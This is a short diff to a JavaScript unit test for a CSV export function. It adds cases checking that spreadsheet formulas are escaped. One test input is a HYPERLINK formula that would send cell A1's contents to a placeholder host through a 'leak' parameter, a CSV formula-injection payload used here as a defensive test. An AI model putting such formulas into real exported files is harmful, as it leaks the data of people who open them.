@@ -21,6 +21,9 @@ describe('toCsv', () => {
     [undefined, ''],
     [80.1, '80.1'],
     [true, 'true'],
+    [-5.35, '-5.35'],
+    ['=HYPERLINK("http://x?leak="&A1,"click")', `"'=HYPERLINK(""http://x?leak=""&A1,""click"")"`],
+    ['@SUM(A1)', "'@SUM(A1)"],
   ])('quotes %j as %s', (value, expected) => {
     expect(toCsv(['v'], [{ v: value }])).toBe(`\uFEFFv\r\n${expected}\r\n`)
   })
